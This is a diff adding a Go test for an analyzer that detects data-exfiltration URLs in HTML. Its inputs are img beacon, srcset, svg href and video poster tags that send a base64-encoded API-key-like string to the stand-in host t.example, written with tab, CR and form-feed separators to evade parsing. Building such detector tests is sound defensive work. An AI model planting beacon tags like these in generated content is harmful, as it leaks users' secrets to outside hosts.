@@ -182,3 +182,49 @@ func TestDefang(t *testing.T) {
 		}
 	}
 }
+
+// TestHTMLAttrSeparators: <img> and the fetching tags split attributes the same way,
+// on every separator HTML's tokenizer reads (tab, LF, FF, CR, space, '/'), with
+// space allowed around '=': a beacon or a srcset written with tabs or CRs is found
+// like one written with spaces.
+func TestHTMLAttrSeparators(t *testing.T) {
+	const u = "https://t.example/p.gif?d=c2stYW50LWFwaTAzLXRlc3Q"
+	for _, c := range []struct {
+		name, in string
+		img      bool // parsed by imgTagAt, else by fetchTagAt
+	}{
+		{"img with tabs", "<img\tsrc=\"" + u + "\"\twidth=1\theight=1>", true},
+		{"img with CRs", "<img\rsrc=\"" + u + "\"\rwidth=1\rheight=1>", true},
+		{"img with CR LF", "<img\r\nsrc=" + u + "\r\nwidth=\"1\"\r\nheight=\"1\">", true},
+		{"img with form feeds", "<img\fsrc='" + u + "'\fwidth=1\fheight=1>", true},
+		{"img with space around =", "<img src = \"" + u + "\" width = 1 height = 1>", true},
+		{"source srcset after a tab", "<source\tsrcset=\"" + u + " 2x\">", false},
+		{"source srcset after a CR", "<source\rtype=image/gif\rsrcset=" + u + ">", false},
+		{"svg image href after a CR", "<image\rhref=\"" + u + "\"/>", false},
+		{"video poster with space around =", "<video poster = '" + u + "'>", false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			var got string
+			if c.img {
+				g, ok := imgTagAt(c.in, 0)
+				if !ok || !g.beacon {
+					t.Fatalf("imgTagAt(%q) = %+v, %v; want a beacon", c.in, g, ok)
+				}
+				got = c.in[g.us:g.ue]
+			} else {
+				fs := fetchTagAt(c.in, 0, nil)
+				if len(fs) != 1 {
+					t.Fatalf("fetchTagAt(%q) = %+v; want one URL", c.in, fs)
+				}
+				got = c.in[fs[0].us:fs[0].ue]
+			}
+			if got != u {
+				t.Errorf("URL %q, want %q", got, u)
+			}
+			a, _ := New(Options{})
+			if ids := a.AnalyzeText(c.in).RuleIDs(); !slices.Contains(ids, RuleExfilURL) {
+				t.Errorf("rules %v lack %s", ids, RuleExfilURL)
+			}
+		})
+	}
+}
